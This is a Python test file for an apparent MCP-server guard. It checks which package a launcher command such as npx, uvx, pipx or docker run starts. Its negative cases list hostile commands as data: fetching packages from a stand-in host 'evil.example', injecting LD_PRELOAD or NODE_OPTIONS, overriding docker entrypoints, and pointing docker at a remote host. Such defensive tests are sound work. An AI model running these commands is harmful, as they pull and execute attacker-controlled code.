"""Which package a command starts, and that whatever could start something else in plain sight is unknown."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcp_guard.catalogue import Registry, identify

FILES = "npm:@scope/files"


def names(command: str) -> str:
    """`npm:NAME@VERSION`, with the program behind a `>`; or nothing."""
    package, why = identify(shlex.split(command))
    assert (package is None) == bool(why)
    return "" if package is None else f"{package}>{package.program}" if package.program else str(package)


@pytest.mark.parametrize(
    ("command", "package"),
    [
        ("npx @scope/files", FILES),
        ("npx -y @scope/files .", FILES),
        ("npx --yes --quiet @scope/files@1.2.3 /srv --registry=x", f"{FILES}@1.2.3"),
        ("npx -y -- @scope/files@1.2.3-beta.1", f"{FILES}@1.2.3-beta.1"),
        ("npx -y files@latest", "npm:files"),
        ("npx -y files@^1.2", "npm:files"),
        ("npx -y --package=@scope/files@1.2.3 mcp-files .", f"{FILES}@1.2.3>mcp-files"),
        ("npx -p @scope/files mcp-files", f"{FILES}>mcp-files"),
        ("/usr/local/bin/npx -y @scope/files", FILES),
        ("npm exec -y @scope/files", FILES),
        ("npm x -- @scope/files@1.2.3", f"{FILES}@1.2.3"),
        ("npm exec -y @scope/files -- --registry=x", FILES),
        ("npm exec --package=@scope/files -- mcp-files --registry=x", f"{FILES}>mcp-files"),
        ("pnpm dlx @scope/files@1.2.3", f"{FILES}@1.2.3"),
        ("pnpx @scope/files", FILES),
        ("yarn dlx -q @scope/files", FILES),
        ("bunx --bun @scope/files@1.2.3", f"{FILES}@1.2.3"),
        ("bun x @scope/files", FILES),
        ("uvx mcp-server-git", "pypi:mcp-server-git"),
        ("uvx mcp-server-git@2026.10.19 --repository .", "pypi:mcp-server-git@2026.10.19"),
        ("uvx Mcp_Server.git==1.0", "pypi:mcp-server-git@1.0"),
        ("uvx 'mcp-server-git>=1.0'", "pypi:mcp-server-git"),
        ("uvx mcp-server-git@latest", "pypi:mcp-server-git"),
        ("uvx --python 3.12 -q 'mcp[cli]==1.0'", "pypi:mcp@1.0"),
        ("uvx --from mcp-server-git==1.0 mcp-git x", "pypi:mcp-server-git@1.0>mcp-git"),
        ("uvx --from=mcp-server-git mcp-git", "pypi:mcp-server-git>mcp-git"),
        ("uv tool run --isolated mcp-server-git", "pypi:mcp-server-git"),
        ("pipx run mcp-server-git", "pypi:mcp-server-git"),
        ("pipx run --spec mcp-server-git==1.0 mcp-git", "pypi:mcp-server-git@1.0>mcp-git"),
        ("python -m mcp_server_git", "module:mcp_server_git"),
        ("/usr/bin/python3.12 -I -u -m mcp_server_git --repository .", "module:mcp_server_git"),
        ("docker run -i --rm mcp/git", "docker:mcp/git"),
        ("docker run -i --rm -e TOKEN --env A=b mcp/git:1.2 --repository .", "docker:mcp/git@1.2"),
        ("docker run docker.io/mcp/git:latest", "docker:mcp/git"),
        (f"docker run ghcr.io/a/b@sha256:{'0' * 64}", f"docker:ghcr.io/a/b@sha256:{'0' * 64}"),
        ("podman run -it docker.io/mcp/git", "docker:mcp/git"),
        ("podman run ghcr.io/a/b", "docker:ghcr.io/a/b"),
    ],
)
def test_a_plain_command_names_its_package(command: str, package: str) -> None:
    assert names(command) == package


@pytest.mark.parametrize(
    "command",
    [
        "",
        "node server.js",
        "python server.py",
        "python -c import",
        "sh -c 'npx -y @scope/files'",
        "env A=b npx @scope/files",
        "./npx @scope/files",
        "/srv/npx @scope/files",
        "node_modules/.bin/npx @scope/files",
        ".venv/bin/python -m mcp_server_git",
        "mcp-server-git",
        # Options that fetch something else, run something else, or run more.
        "npx --registry=https://evil.example @scope/files",
        "npx -y --registry https://evil.example @scope/files",
        "npx --prefix /tmp/evil @scope/files",
        "npx -c evil @scope/files",
        "npx --call=evil @scope/files",
        "npx --node-options=--require=/tmp/e.js @scope/files",
        "npx -p @scope/files -p evil mcp-files",
        "npx -p @scope/files -c mcp-files",
        "npx --package",
        "npx -y",
        "npm run files",
        "npm exec @scope/files --registry=https://evil.example",
        "npm exec @scope/files . --package=evil",
        "npm x -p @scope/files mcp-files --call=evil",
        "npm exec --workspace=evil @scope/files",
        "pnpm exec @scope/files",
        "pnpm --dir /tmp dlx @scope/files",
        "bunx --config=/tmp/b.toml @scope/files",
        "uvx --default-index https://evil.example mcp-server-git",
        "uvx --index=https://evil.example mcp-server-git",
        "uvx --with evil mcp-server-git",
        "uvx --python /tmp/python mcp-server-git",
        "uvx --directory /tmp mcp-server-git",
        "uvx --from mcp-server-git --from evil mcp-git",
        "uv run mcp-server-git",
        "uv --directory /tmp tool run mcp-server-git",
        "pipx run --pip-args=-ihttps://evil.example mcp-server-git",
        "docker run -v /tmp/evil:/app mcp/git",
        "docker run --mount type=bind,src=/tmp,dst=/app mcp/git",
        "docker run --entrypoint /bin/sh mcp/git",
        "docker run -e NODE_OPTIONS=--import=data:text/javascript,evil mcp/git",
        "docker run -e PYTHONPATH=/x mcp/git",
        "docker run -e LD_PRELOAD mcp/git",
        "docker run -e PATH=/x mcp/git",
        "docker -H tcp://evil run mcp/git",
        "docker compose run mcp/git",
        "podman run mcp/git",
        # What isn't a plain name and version.
        "npx files@npm:evil",
        "npx @scope/files@npm:evil@1.0.0",
        "npx @scope/files@file:../evil",
        "npx @scope/files@https://evil.example/a.tgz",
        "npx @scope/files@github:a/b",
        "npx @scope/files@../evil",
        "npx user/repository",
        "npx ./files",
        "npx ../files",
        "npx ~/files",
        "npx files.tgz",
        "npx @scope/files@1.0.0-x.tgz",
        "npx https://evil.example/files",
        "npx git+ssh://a@b/c",
        "uvx --from git+https://evil.example/a mcp-server-git",
        "uvx --from ./evil mcp-server-git",
        "uvx 'mcp-server-git @ https://evil.example/a.whl'",
        "uvx mcp_server_git-1.0-py3-none-any.whl",
        "uvx https://evil.example/a.whl",
        "uvx ./evil",
        "docker run localhost:5000/mcp/git",
        "docker run mcp/git@sha256:short",
        "docker run MCP/git",
    ],
)
def test_what_could_start_something_else_is_unknown(command: str) -> None:
    assert names(command) == ""


def test_a_package_is_known_by_registry_and_name_and_not_by_version() -> None:
    package, _ = identify(["npx", "files@1.0.0"])
    assert package is not None and package.key == "npm:files" and package.registry is Registry.NPM


WORDS = st.sampled_from(
    [
        "npx",
        "uvx",
        "npm",
        "exec",
        "docker",
        "run",
        "python",
        "-m",
        "-y",
        "-p",
        "--from",
        "--",
        "-e",
        "=",
        "",
        "@a/b",
        "a@1",
    ]
)


@given(st.lists(WORDS | st.text(max_size=8), max_size=8))
def test_every_command_has_an_answer(command: list[str]) -> None:
    package, why = identify(command)
    assert (package is None) == bool(why)


@given(st.text(alphabet="ab@/:.~-_^ \n\u0661", max_size=12))
def test_a_word_that_is_taken_for_a_package_is_that_name_to_the_letter(word: str) -> None:
    package, _ = identify(["npx", "-y", word])
    assert package is None or word == package.name or word.startswith(f"{package.name}@")
